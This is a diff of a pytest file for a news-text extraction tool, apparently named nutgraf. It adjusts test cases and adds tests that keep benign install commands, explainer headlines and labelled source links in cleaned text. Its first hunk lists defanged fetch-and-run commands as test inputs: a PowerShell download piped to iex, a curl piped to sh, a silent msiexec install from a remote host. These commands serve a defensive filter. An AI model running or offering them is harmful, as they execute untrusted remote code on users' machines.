@@ -46,7 +46,7 @@ def paragraphs(*texts: str) -> str:
     "command",
     [
         'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"',
-        "curl -fsSL https://get.example.sh | sh",
+        "curl -fsSL hxxps://get-update[.]sh | sh",
         "cmd /c start msiexec /q /i hxxp://update-check[.]ru/a.msi",
         "sudo curl -o /tmp/a.sh hxxps://cdn-verify[.]com/a.sh",
         "git clone https://github.com/example/exploit-poc",
@@ -248,7 +248,7 @@ TITULAR = "Un fármaco contra la obesidad reduce a la mitad las pausas de la apn
 DECK = "Un ensayo con 900 pacientes muestra que la tirzepatida mejora la respiración nocturna."
 
 
-@pytest.mark.parametrize("kicker", ["Salud y bienestar", "Science & Environment", "Arts and culture"])
+@pytest.mark.parametrize("kicker", ["Salud y bienestar", "Science & Environment", "Arts & culture"])
 def test_a_kicker_of_beats_joined_over_the_headline_is_no_title(kicker: str) -> None:
     cleaned = clean_text(f"{kicker}\n\n{TITULAR}\n\n{DECK}\n\nNuño Domínguez\n\n{SALUD}")
     assert cleaned.title == TITULAR
@@ -330,6 +330,77 @@ def test_names_over_a_newsroom_s_staff_job_are_the_byline(line: str, byline: str
 )
 def test_names_over_another_job_are_no_staff_byline(line: str) -> None:
     assert clean_text(f"{NIKKEI_HEADLINE}\n\n{line}\n\n{NIKKEI}").byline is None
+
+
+# Review: lines of the same shapes that a reader came for.
+
+HOWTO = (
+    "To install the tool, open a terminal and run the following command.",
+    "The installer then asks which version of Python to use, and the tool is free.",
+)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # A how-to's or a release note's command, its address a real one: the reader's to run.
+        "curl -sSL https://install.python-poetry.org | python3 -",
+        "sudo apt-get -y install ffmpeg",
+        "apt -y install nginx",
+        "cmd /c dir",
+    ],
+)
+def test_a_how_to_s_command_line_stays(command: str) -> None:
+    text = f"How to install nutgraf\n\n{HOWTO[0]}\n\n{command}\n\n{HOWTO[1]}"
+    assert command in clean_text(text).text
+    assert (
+        command
+        in nutgraf.extract(page(paragraphs(HOWTO[0], command, HOWTO[1]), "How to install nutgraf")).text
+    )
+
+
+@pytest.mark.parametrize(
+    ("headline", "answer"),
+    [
+        (
+            "What is Bluesky?",
+            "Bluesky is a social network that grew out of a project at Twitter, and it has 30 million users.",
+        ),
+        (
+            "What is the Insurrection Act?",
+            "The Insurrection Act is an 1807 law that lets a president deploy troops at home.",
+        ),
+    ],
+)
+def test_an_explainer_s_question_headline_over_its_answer_stays(headline: str, answer: str) -> None:
+    body = f"{answer}\n\nIts founders say no one company should own it, officials said on Monday."
+    assert clean_text(f"{headline}\n\n{body}").text.startswith(f"{headline}\n\n{answer}")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        # A label of what the reader came for over its address, no wire's hub.
+        "Full report: https://www.cdc.gov/mmwr/volumes/73/wr/mm7301a1.htm",
+        "Read the ruling: https://www.supremecourt.gov/opinions/24pdf/23-719.pdf",
+        "Study: https://doi.org/10.1056/NEJMoa2401234",
+        "Petition: https://petition.parliament.uk/petitions/700000",
+    ],
+)
+def test_a_page_s_last_labelled_address_stays(line: str) -> None:
+    assert nutgraf.extract(page(paragraphs(*BOX_SCORE, line), "Thunder beat Nuggets")).text.endswith(line)
+
+
+@pytest.mark.parametrize("headline", ["Science and technology", "Money and Sport", "Sport and politics"])
+def test_a_short_headline_of_beats_joined_by_and_over_its_deck_stays_the_title(headline: str) -> None:
+    body = (
+        "The two worlds have never been far apart, and this year they met again in a row over a stadium.\n\n"
+        "The club's owners said on Monday that they would appeal the council's decision."
+    )
+    assert (
+        clean_text(f"{headline}\n\nWhy the two have never been far apart in Britain\n\n{body}").title
+        == headline
+    )
 
 
 # Long hostile lines of each kind end as any line does (linear work, no pattern that backtracks).
